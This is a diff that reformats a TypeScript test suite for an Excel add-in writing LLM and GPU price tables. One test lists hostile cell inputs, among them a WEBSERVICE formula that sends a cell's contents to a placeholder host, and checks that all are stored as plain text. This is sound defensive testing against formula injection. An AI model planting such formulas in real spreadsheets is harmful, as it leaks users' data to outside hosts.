@@ -1,6 +1,18 @@
 import { excelGateway } from '../../src/workbook/excelGateway';
 import { startExcel, type RunningExcel } from '../support/loadOffice';
-import { column, contentsOf, headersOf, replace, restore, ROWS, stampOf, tableCell, tableOf, typeInto, update } from './support';
+import {
+  column,
+  contentsOf,
+  headersOf,
+  replace,
+  restore,
+  ROWS,
+  stampOf,
+  tableCell,
+  tableOf,
+  typeInto,
+  update,
+} from './support';
 
 let excel: RunningExcel;
 beforeEach(async () => {
@@ -11,7 +23,13 @@ afterEach(() => excel.stop());
 test('the first write makes four tables, each on its own sheet, and stamps them', async () => {
   const { written, snapshotId } = await replace(excelGateway(), update());
   expect(written).toMatchObject({ outcome: 'written' });
-  expect(excel.store.sheets().map(({ name }) => name)).toEqual(['Sheet1', 'Price Sources', 'LLM Prices', 'GPU Prices', 'Price Changes']);
+  expect(excel.store.sheets().map(({ name }) => name)).toEqual([
+    'Sheet1',
+    'Price Sources',
+    'LLM Prices',
+    'GPU Prices',
+    'Price Changes',
+  ]);
   expect(column(excel, 'LlmPrices', 'Model')).toEqual(['gpt-4o', 'gpt-4o', 'claude-sonnet-4-5']);
   expect(column(excel, 'LlmPrices', 'Output (USD/1M)')).toEqual([10, '', 15]);
   expect(column(excel, 'GpuPrices', 'USD per GPU hour')).toEqual([2.69]);
@@ -63,11 +81,14 @@ test('W11 a longer set is declined while something of the user stands below the 
   excel.store.write(sheet, { row: rect.rows + 3, col: 1, rows: 1, cols: 1 }, [[{ value: 'my note' }]]);
   const before = contentsOf(excel);
   const { written } = await replace(gateway, update([...ROWS, { provider: 'x', model: 'y', input: 1, output: 1 }]));
-  expect(written).toMatchObject({ outcome: 'declined', problem: { code: 'tables-no-room', details: { sheet: 'LLM Prices', row: 8 } } });
+  expect(written).toMatchObject({
+    outcome: 'declined',
+    problem: { code: 'tables-no-room', details: { sheet: 'LLM Prices', row: 8 } },
+  });
   expect(contentsOf(excel)).toEqual(before);
 });
 
-test("W08 what the user wrote in columns of their own stays with its row when rows come and go", async () => {
+test('W08 what the user wrote in columns of their own stays with its row when rows come and go', async () => {
   const gateway = excelGateway();
   await replace(gateway, update());
   typeInto(excel, 'LlmPrices', 'My output (USD/1M)', 2, 13.5);
@@ -123,8 +144,15 @@ test('columns may be moved, renamed in case and added by the user', async () => 
   const { id, sheet, rect } = tableOf(excel, 'LlmPrices');
   excel.store.putTable({ id, sheet, name: 'LlmPrices', rect: { ...rect, cols: rect.cols + 1 } });
   excel.store.write(sheet, { row: 0, col: 0, rows: 1, cols: 2 }, [[{ value: 'MODEL' }, { value: 'provider' }]]);
-  excel.store.write(sheet, { row: 1, col: 0, rows: 3, cols: 2 }, ROWS.map(({ model, provider }) => [{ value: model }, { value: provider }]));
-  excel.store.write(sheet, { row: 0, col: rect.cols, rows: 2, cols: 1 }, [[{ value: 'Approved by' }], [{ value: 'finance, 2026-11-01' }]]);
+  excel.store.write(
+    sheet,
+    { row: 1, col: 0, rows: 3, cols: 2 },
+    ROWS.map(({ model, provider }) => [{ value: model }, { value: provider }]),
+  );
+  excel.store.write(sheet, { row: 0, col: rect.cols, rows: 2, cols: 1 }, [
+    [{ value: 'Approved by' }],
+    [{ value: 'finance, 2026-11-01' }],
+  ]);
   const { written } = await replace(gateway, update(ROWS.map((row) => ({ ...row, checked: '2026-11-21' }))));
   expect(written).toMatchObject({ outcome: 'written' });
   expect(headersOf(excel, 'LlmPrices').slice(0, 2)).toEqual(['MODEL', 'provider']);
@@ -133,13 +161,35 @@ test('columns may be moved, renamed in case and added by the user', async () => 
 });
 
 test('P13 P14 no text of a feed becomes a formula, a date, a number or a logical value', async () => {
-  const hostile = ['=WEBSERVICE("https://x/?"&A1)', '+1', '-1', '@SUM(A1)', '4.10', '1E5', 'TRUE', '2026-11-23', '3/4', '=1+1', '#N/A'];
-  const rows = hostile.map((text, index) => ({ provider: 'p', model: `m${index}`, input: 1, output: 2, name: text, note: `\t${text}`, image_each: text }));
+  const hostile = [
+    '=WEBSERVICE("https://x/?"&A1)',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '4.10',
+    '1E5',
+    'TRUE',
+    '2026-11-23',
+    '3/4',
+    '=1+1',
+    '#N/A',
+  ];
+  const rows = hostile.map((text, index) => ({
+    provider: 'p',
+    model: `m${index}`,
+    input: 1,
+    output: 2,
+    name: text,
+    note: `\t${text}`,
+    image_each: text,
+  }));
   const { written } = await replace(excelGateway(), update(rows));
   expect(written).toMatchObject({ outcome: 'written' });
   for (const header of ['Name', 'Note', 'Image each (USD)']) {
     expect(column(excel, 'LlmPrices', header)).toEqual(hostile);
-    hostile.forEach((_, row) => expect(tableCell(excel, 'LlmPrices', header, row)).toMatchObject({ formula: '', format: '@' }));
+    hostile.forEach((_, row) =>
+      expect(tableCell(excel, 'LlmPrices', header, row)).toMatchObject({ formula: '', format: '@' }),
+    );
   }
 });
 
@@ -148,7 +198,11 @@ test('the number format that the user chose for a price column stays', async () 
   await replace(gateway, update());
   const { sheet } = tableOf(excel, 'LlmPrices');
   const at = headersOf(excel, 'LlmPrices').indexOf('Input (USD/1M)');
-  excel.store.write(sheet, { row: 1, col: at, rows: 3, cols: 1 }, ROWS.map(() => [{ format: '0.0000' }]));
+  excel.store.write(
+    sheet,
+    { row: 1, col: at, rows: 3, cols: 1 },
+    ROWS.map(() => [{ format: '0.0000' }]),
+  );
   await replace(gateway, update([...ROWS, { provider: 'p', model: 'm', input: 1, output: 2 }]));
   expect(tableCell(excel, 'LlmPrices', 'Input (USD/1M)', 3).format).toBe('0.0000');
 });
@@ -173,7 +227,13 @@ test('restore brings back prices, own columns and stamp, and restoring again goe
 
 test('there is nothing to restore before the first refresh', async () => {
   const gateway = excelGateway();
-  expect((await restore(gateway)).written).toMatchObject({ outcome: 'declined', problem: { code: 'tables-nothing-to-restore' } });
+  expect((await restore(gateway)).written).toMatchObject({
+    outcome: 'declined',
+    problem: { code: 'tables-nothing-to-restore' },
+  });
   await replace(gateway, update());
-  expect((await restore(gateway)).written).toMatchObject({ outcome: 'declined', problem: { code: 'tables-nothing-to-restore' } });
+  expect((await restore(gateway)).written).toMatchObject({
+    outcome: 'declined',
+    problem: { code: 'tables-nothing-to-restore' },
+  });
 });
